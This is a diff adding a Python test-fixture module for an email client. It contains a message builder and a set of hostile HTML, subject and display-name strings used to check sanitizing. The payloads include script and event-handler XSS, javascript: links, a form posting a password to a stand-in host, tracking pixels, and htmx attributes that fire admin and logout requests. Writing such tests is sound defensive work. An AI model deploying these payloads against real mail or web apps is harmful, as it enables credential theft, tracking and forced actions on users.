@@ -1,0 +1,98 @@
+"""Small hand-made mails for tests: a builder plus hostile HTML cases of our own."""
+
+from __future__ import annotations
+
+import itertools
+from email.message import EmailMessage
+from email.utils import format_datetime, make_msgid
+from datetime import datetime, timezone
+
+_ids = itertools.count(1)
+
+# 1x1 transparent PNG
+PNG_1X1 = bytes.fromhex(
+    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
+)
+
+
+def build_message(
+    *,
+    subject: str = "Hello",
+    sender: str = "Carla Diaz <carla@customer.test>",
+    to: str = "box@mail.test",
+    cc: str | None = None,
+    text: str | None = "Hello there.",
+    html: str | None = None,
+    date: datetime | None = None,
+    message_id: str | None = None,
+    in_reply_to: str | None = None,
+    references: str | None = None,
+    attachments: tuple[tuple[str, str, bytes], ...] = (),
+    inline_images: tuple[tuple[str, bytes], ...] = (),
+    extra_headers: dict[str, str] | None = None,
+) -> bytes:
+    """Return RFC 822 bytes; attachments are (filename, mime type, bytes), inline images
+    (content id, png bytes)."""
+    message = EmailMessage()
+    message["From"] = sender
+    message["To"] = to
+    if cc:
+        message["Cc"] = cc
+    message["Subject"] = subject
+    message["Date"] = format_datetime(date or datetime(2026, 11, 2, 10, next(_ids) % 60, tzinfo=timezone.utc))
+    message["Message-ID"] = message_id or make_msgid(domain="customer.test")
+    if in_reply_to:
+        message["In-Reply-To"] = in_reply_to
+    if references:
+        message["References"] = references
+    for name, value in (extra_headers or {}).items():
+        message[name] = value
+    if text is not None:
+        message.set_content(text)
+    if html is not None:
+        if text is None:
+            message.set_content(html, subtype="html")
+        else:
+            message.add_alternative(html, subtype="html")
+    if inline_images:
+        html_part = message.get_body(("html",))
+        for content_id, data in inline_images:
+            html_part.add_related(data, "image", "png", cid=f"<{content_id}>")
+    for filename, mime, data in attachments:
+        maintype, subtype = mime.split("/", 1)
+        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
+    return bytes(message)
+
+
+# Hostile HTML bodies: none may run script, navigate, or load anything remote.
+HOSTILE_HTML = {
+    "script": "<p>hi</p><script>alert('script')</script>",
+    "event_handler": '<img src="x" onerror="alert(\'onerror\')"><body onload="alert(1)">',
+    "javascript_link": '<a href="javascript:alert(\'js-link\')">click me</a>',
+    "svg_script": '<svg onload="alert(\'svg\')"><script>alert("svg2")</script></svg>',
+    "css_overlay": (
+        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;'
+        'background:url(http://remote.example/bg.png)">overlay</div>'
+    ),
+    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://remote.example/">x',
+    "base_tag": '<base href="http://remote.example/"><a href="/logout">relative</a>',
+    "form": (
+        '<form action="http://remote.example/steal" method="post"><input name="password">'
+        '<button>Login</button></form>'
+    ),
+    "remote_image": '<img src="http://remote.example/pixel.gif" width="1" height="1">',
+    "remote_css": (
+        '<link rel="stylesheet" href="http://remote.example/x.css">'
+        '<style>@import url(http://remote.example/y.css); body{background:url(http://remote.example/z)}</style>'
+    ),
+    "iframe": '<iframe src="http://remote.example/"></iframe>',
+    "htmx_injection": (
+        '<div hx-get="/admin/users" hx-trigger="load">a</div>'
+        '<div data-hx-post="/settings/preferences" data-hx-trigger="load">b</div>'
+    ),
+}
+
+# htmx attribute injection through header-derived text (subject, display name).
+HOSTILE_SUBJECT = '<div hx-get="/admin/users" hx-trigger="load">x</div><img src=x onerror=alert(1)>'
+HOSTILE_DISPLAY_NAME = '"<svg onload=alert(1)> hx-post=/logout" <evil@customer.test>'
